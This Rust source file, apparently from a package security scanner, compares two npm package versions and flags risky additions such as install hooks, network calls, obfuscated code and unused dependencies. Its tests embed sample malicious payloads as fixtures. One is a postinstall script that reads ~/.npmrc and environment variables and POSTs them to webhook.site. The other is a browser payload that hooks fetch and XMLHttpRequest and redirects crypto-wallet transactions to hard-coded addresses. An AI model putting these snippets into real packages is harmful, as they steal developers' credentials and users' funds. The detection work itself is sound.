//! Version diff: what a release adds compared with the one before.
//!
//! The backdoored releases of trusted packages have one shape: a version that adds what
//! the package never had. chalk/debug (2025) added an obfuscated browser payload to the
//! files every importer loads; Shai-Hulud added a `postinstall` that runs a bundled
//! script; the Red Hat npm channel compromise added an install hook that runs commands.
//! [`diff_packages`] scans both versions and reports the files, scripts, dependencies,
//! capabilities and findings that are new in TO, and flags the update as high-risk with
//! the reasons.

use std::collections::{BTreeMap, BTreeSet};

use palisade_core::{Capability, Finding, Severity, Verdict};
use palisade_tarball::PackageContents;
use serde::Serialize;

use crate::rules::{self, install_script, phantom_dependency};
use crate::{PackageRef, ScanOptions};

/// What one side of the diff is, in brief.
#[derive(Debug, Clone, Serialize)]
pub struct SideSummary {
    pub package: PackageRef,
    pub verdict: Verdict,
    pub score: f64,
    pub files: usize,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct ScriptChange {
    /// `preinstall`, `install`, `postinstall`, `prepare`.
    pub event: String,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub from: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub to: Option<String>,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct DependencyChange {
    pub name: String,
    /// The version range in the manifest that has it.
    pub range: String,
    /// `dependencies`, `optionalDependencies`, `peerDependencies`.
    pub kind: String,
}

/// Why an update is high-risk.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct RiskReason {
    /// Stable kebab-case code: `install-script-added`, `install-script-changed`,
    /// `network-added`, `process-spawn-added`, `obfuscated-file-added`,
    /// `unused-dependency-added`, `verdict-raised`, `new-finding`.
    pub code: String,
    pub message: String,
}

/// What TO adds compared with FROM.
#[derive(Debug, Clone, Serialize)]
pub struct DiffReport {
    pub from: SideSummary,
    pub to: SideSummary,
    pub files_added: Vec<String>,
    pub files_removed: Vec<String>,
    pub files_changed: Vec<String>,
    pub scripts_changed: Vec<ScriptChange>,
    pub dependencies_added: Vec<DependencyChange>,
    pub dependencies_removed: Vec<DependencyChange>,
    /// Capabilities of TO's findings that FROM's findings do not have.
    pub capabilities_added: Vec<Capability>,
    /// Findings of TO whose rule and file FROM has no finding for (lines move between
    /// releases, so they are not compared).
    pub findings_added: Vec<Finding>,
    pub high_risk: bool,
    pub reasons: Vec<RiskReason>,
}

/// Options for a diff; the same registry manifests the scan would use, one per side.
#[derive(Debug, Clone, Default)]
pub struct DiffOptions {
    pub from: ScanOptions,
    pub to: ScanOptions,
}

/// Compares two versions of a package.
pub fn diff_packages(old: &PackageContents, new: &PackageContents, options: &DiffOptions) -> DiffReport {
    let old_facts = rules::package_facts(old, &options.from);
    let new_facts = rules::package_facts(new, &options.to);
    let mut old_findings = Vec::new();
    rules::run_all(&old_facts, &mut old_findings);
    let mut new_findings = Vec::new();
    rules::run_all(&new_facts, &mut new_findings);
    let old_scripts = install_script::lifecycle_scripts(&old_facts);
    let new_scripts = install_script::lifecycle_scripts(&new_facts);
    let new_phantoms = phantom_dependency::phantom_dependencies(&new_facts);
    let old_dependencies = dependencies(old_facts.manifest.as_ref());
    let new_dependencies = dependencies(new_facts.manifest.as_ref());
    let old_result = crate::score::assemble(&old_facts, old_findings);
    let new_result = crate::score::assemble(&new_facts, new_findings);

    // Files, by content.
    let old_files: BTreeMap<&str, &[u8]> = old.files.iter().map(|f| (f.path.as_str(), f.data.as_slice())).collect();
    let new_files: BTreeMap<&str, &[u8]> = new.files.iter().map(|f| (f.path.as_str(), f.data.as_slice())).collect();
    let files_added: Vec<String> = new_files
        .keys()
        .filter(|p| !old_files.contains_key(*p))
        .map(|p| p.to_string())
        .collect();
    let files_removed: Vec<String> = old_files
        .keys()
        .filter(|p| !new_files.contains_key(*p))
        .map(|p| p.to_string())
        .collect();
    let files_changed: Vec<String> = new_files
        .iter()
        .filter(|(path, data)| old_files.get(*path).is_some_and(|old| old != *data))
        .map(|(p, _)| p.to_string())
        .collect();

    // Lifecycle scripts.
    let mut scripts_changed = Vec::new();
    for event in install_script::LIFECYCLE_EVENTS {
        let from = old_scripts
            .iter()
            .find(|s| s.event == *event)
            .map(|s| s.command.clone());
        let to = new_scripts
            .iter()
            .find(|s| s.event == *event)
            .map(|s| s.command.clone());
        if from != to {
            scripts_changed.push(ScriptChange {
                event: event.to_string(),
                from,
                to,
            });
        }
    }

    // Dependencies.
    let dependencies_added: Vec<DependencyChange> = new_dependencies
        .iter()
        .filter(|d| !old_dependencies.iter().any(|o| o.name == d.name))
        .cloned()
        .collect();
    let dependencies_removed: Vec<DependencyChange> = old_dependencies
        .iter()
        .filter(|d| !new_dependencies.iter().any(|n| n.name == d.name))
        .cloned()
        .collect();

    // Capabilities and findings.
    let old_capabilities: BTreeSet<Capability> = old_result.capabilities.iter().copied().collect();
    let capabilities_added: Vec<Capability> = new_result
        .capabilities
        .iter()
        .copied()
        .filter(|c| !old_capabilities.contains(c))
        .collect();
    let old_keys: BTreeSet<(&str, Option<&str>)> = old_result
        .findings
        .iter()
        .map(|f| (f.rule.as_str(), f.file.as_deref()))
        .collect();
    let findings_added: Vec<Finding> = new_result
        .findings
        .iter()
        .filter(|f| !old_keys.contains(&(f.rule.as_str(), f.file.as_deref())))
        .cloned()
        .collect();

    // Why it is high-risk.
    let mut reasons = Vec::new();
    let mut reason = |code: &str, message: String| {
        reasons.push(RiskReason {
            code: code.to_string(),
            message,
        })
    };
    let runs_on_install = |event: &str| event != "prepare";
    for change in &scripts_changed {
        match (&change.from, &change.to) {
            (None, Some(to)) if runs_on_install(&change.event) => reason(
                "install-script-added",
                format!("adds a `{}` script: `{}`", change.event, excerpt(to)),
            ),
            (Some(from), Some(to)) if runs_on_install(&change.event) => reason(
                "install-script-changed",
                format!(
                    "changes the `{}` script from `{}` to `{}`",
                    change.event,
                    excerpt(from),
                    excerpt(to)
                ),
            ),
            _ => {}
        }
    }
    let significant_new: Vec<&Finding> = findings_added
        .iter()
        .filter(|f| f.severity >= Severity::Moderate)
        .collect();
    let new_with = |capability: Capability| -> Option<&&Finding> {
        significant_new.iter().find(|f| f.capabilities.contains(&capability))
    };
    if !old_capabilities.contains(&Capability::Network) {
        if let Some(finding) = new_with(Capability::Network) {
            reason(
                "network-added",
                format!(
                    "adds a network sink the previous version did not have ({})",
                    at(finding)
                ),
            );
        }
    }
    if !old_capabilities.contains(&Capability::Shell) {
        if let Some(finding) = new_with(Capability::Shell) {
            reason(
                "process-spawn-added",
                format!("adds process execution ({})", at(finding)),
            );
        }
    }
    if let Some(finding) = new_with(Capability::Obfuscation) {
        if !old_capabilities.contains(&Capability::Obfuscation) {
            reason(
                "obfuscated-file-added",
                format!("adds obfuscated code ({})", at(finding)),
            );
        }
    }
    for dependency in &dependencies_added {
        if dependency.kind == "dependencies" && new_phantoms.contains(&dependency.name) {
            reason(
                "unused-dependency-added",
                format!(
                    "adds the dependency `{}@{}` that no file imports: its only effect is its own install",
                    dependency.name, dependency.range
                ),
            );
        }
    }
    if new_result.verdict > old_result.verdict && new_result.verdict != Verdict::Clean {
        reason(
            "verdict-raised",
            format!(
                "the verdict goes from {} to {}: {}",
                old_result.verdict, new_result.verdict, new_result.summary
            ),
        );
    }
    for finding in &significant_new {
        if finding.severity >= Severity::High {
            reason(
                "new-finding",
                format!(
                    "new {} finding: {} ({})",
                    finding.severity,
                    finding.message,
                    at(finding)
                ),
            );
        }
    }
    let high_risk = !reasons.is_empty();

    DiffReport {
        from: SideSummary {
            package: old_result.package.clone(),
            verdict: old_result.verdict,
            score: old_result.score,
            files: old.files.len(),
        },
        to: SideSummary {
            package: new_result.package.clone(),
            verdict: new_result.verdict,
            score: new_result.score,
            files: new.files.len(),
        },
        files_added,
        files_removed,
        files_changed,
        scripts_changed,
        dependencies_added,
        dependencies_removed,
        capabilities_added,
        findings_added,
        high_risk,
        reasons,
    }
}

fn excerpt(text: &str) -> String {
    palisade_core::bounded_excerpt(text, 80)
}

fn at(finding: &Finding) -> String {
    match (&finding.file, finding.line) {
        (Some(file), Some(line)) => format!("{file}:{line}, {}", finding.rule),
        (Some(file), None) => format!("{file}, {}", finding.rule),
        _ => finding.rule.clone(),
    }
}

fn dependencies(manifest: Option<&serde_json::Value>) -> Vec<DependencyChange> {
    let mut out = Vec::new();
    let Some(manifest) = manifest else { return out };
    for kind in ["dependencies", "optionalDependencies", "peerDependencies"] {
        let Some(map) = manifest.get(kind).and_then(|d| d.as_object()) else {
            continue;
        };
        for (name, range) in map {
            let range = range.as_str().unwrap_or("").to_string();
            out.push(DependencyChange {
                name: name.clone(),
                range,
                kind: kind.to_string(),
            });
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use palisade_tarball::PackageFile;

    use super::*;

    fn package(files: &[(&str, &str)]) -> PackageContents {
        PackageContents {
            origin: "test".to_string(),
            files: files
                .iter()
                .map(|(path, data)| PackageFile {
                    path: path.to_string(),
                    data: data.as_bytes().to_vec(),
                    mode: 0o644,
                })
                .collect(),
            issues: Vec::new(),
            compressed_bytes: 0,
            unpacked_bytes: 0,
        }
    }

    const OLD_MANIFEST: &str = r#"{"name": "colorful", "version": "1.0.0", "main": "index.js",
        "dependencies": {"ansi-styles": "^4.0.0"}}"#;
    const OLD_INDEX: &str = "const styles = require('ansi-styles');\nmodule.exports = (s) => styles.red.open + s;\n";

    fn codes(report: &DiffReport) -> Vec<&str> {
        report.reasons.iter().map(|r| r.code.as_str()).collect()
    }

    #[test]
    fn identical_versions_are_not_high_risk() {
        let old = package(&[("package.json", OLD_MANIFEST), ("index.js", OLD_INDEX)]);
        let report = diff_packages(&old, &old, &DiffOptions::default());
        assert!(!report.high_risk, "{:?}", report.reasons);
        assert!(report.files_added.is_empty() && report.files_changed.is_empty() && report.files_removed.is_empty());
        assert!(report.findings_added.is_empty() && report.capabilities_added.is_empty());
    }

    #[test]
    fn a_benign_patch_release_is_not_high_risk() {
        let old = package(&[
            ("package.json", OLD_MANIFEST),
            ("index.js", OLD_INDEX),
            ("README.md", "# colorful"),
        ]);
        let manifest = OLD_MANIFEST.replace("1.0.0", "1.0.1");
        let index = format!("{OLD_INDEX}module.exports.version = '1.0.1';\n");
        let new = package(&[
            ("package.json", &manifest),
            ("index.js", &index),
            ("CHANGELOG.md", "fixes"),
        ]);
        let report = diff_packages(&old, &new, &DiffOptions::default());
        assert_eq!(report.files_added, vec!["CHANGELOG.md"]);
        assert_eq!(report.files_removed, vec!["README.md"]);
        assert_eq!(report.files_changed, vec!["index.js", "package.json"]);
        assert_eq!(report.to.package.version, "1.0.1");
        assert!(!report.high_risk, "{:?}", report.reasons);
    }

    #[test]
    fn shai_hulud_shape_adds_an_install_script_running_a_harvester() {
        let old = package(&[("package.json", OLD_MANIFEST), ("index.js", OLD_INDEX)]);
        let manifest = r#"{"name": "colorful", "version": "1.0.1", "main": "index.js",
            "scripts": {"postinstall": "node bundle.js"},
            "dependencies": {"ansi-styles": "^4.0.0"}}"#;
        let bundle = r#"
            const fs = require('fs'), os = require('os'), path = require('path'), https = require('https');
            const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
            const body = JSON.stringify({ npmrc, env: process.env });
            const req = https.request({ hostname: 'webhook.site', path: '/abc', method: 'POST' });
            req.write(body); req.end();
        "#;
        let new = package(&[
            ("package.json", manifest),
            ("index.js", OLD_INDEX),
            ("bundle.js", bundle),
        ]);
        let report = diff_packages(&old, &new, &DiffOptions::default());
        assert!(report.high_risk);
        assert_eq!(report.files_added, vec!["bundle.js"]);
        assert_eq!(
            report.scripts_changed,
            vec![ScriptChange {
                event: "postinstall".into(),
                from: None,
                to: Some("node bundle.js".into())
            }]
        );
        let codes = codes(&report);
        assert!(codes.contains(&"install-script-added"), "{codes:?}");
        assert!(codes.contains(&"network-added"), "{codes:?}");
        assert!(report.capabilities_added.contains(&Capability::InstallScript));
        assert!(report
            .findings_added
            .iter()
            .any(|f| f.file.as_deref() == Some("bundle.js")));
    }

    #[test]
    fn chalk_shape_adds_a_wallet_hijack_to_the_main_file() {
        let old = package(&[("package.json", OLD_MANIFEST), ("index.js", OLD_INDEX)]);
        // The shape of the September 2025 payload: hooks on fetch, XMLHttpRequest and
        // window.ethereum that swap addresses for the attacker's, several chains at once.
        let payload = format!(
            "{OLD_INDEX}\nconst targets = ['0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976', \
             'bc1qms4f8ys8c4z47h0q29nnmyekc9r74u5ypqw6wm', '1H13VnQJKtT4HjD5ZFKaaiZEetMbG7nDHx'];\n\
             if (typeof window != 'undefined') {{\n\
               const open = XMLHttpRequest.prototype.open;\n\
               XMLHttpRequest.prototype.open = function (m, u) {{ this._u = u; return open.apply(this, arguments); }};\n\
               const f = window.fetch; window.fetch = async function (...a) {{ const r = await f(...a); return r; }};\n\
               window.ethereum.request = function (x) {{ x.params[0].to = targets[0]; }};\n\
             }}\n"
        );
        let manifest = OLD_MANIFEST.replace("1.0.0", "1.0.1");
        let new = package(&[("package.json", &manifest), ("index.js", &payload)]);
        let report = diff_packages(&old, &new, &DiffOptions::default());
        assert_eq!(report.files_changed, vec!["index.js", "package.json"]);
        assert!(report.high_risk, "{report:#?}");
        assert!(!report.findings_added.is_empty());
    }

    #[test]
    fn phantom_dependency_added() {
        let old = package(&[("package.json", OLD_MANIFEST), ("index.js", OLD_INDEX)]);
        let manifest = r#"{"name": "colorful", "version": "1.0.1", "main": "index.js",
            "dependencies": {"ansi-styles": "^4.0.0", "colorful-helper-postinstall": "1.0.0"}}"#;
        let new = package(&[("package.json", manifest), ("index.js", OLD_INDEX)]);
        let report = diff_packages(&old, &new, &DiffOptions::default());
        assert_eq!(report.dependencies_added.len(), 1);
        assert_eq!(report.dependencies_added[0].name, "colorful-helper-postinstall");
        assert!(
            codes(&report).contains(&"unused-dependency-added"),
            "{:?}",
            report.reasons
        );
        assert!(report.high_risk);
        let json = serde_json::to_value(&report).unwrap_or_default();
        assert_eq!(json["high_risk"], true);
        assert_eq!(json["dependencies_added"][0]["kind"], "dependencies");
    }
}
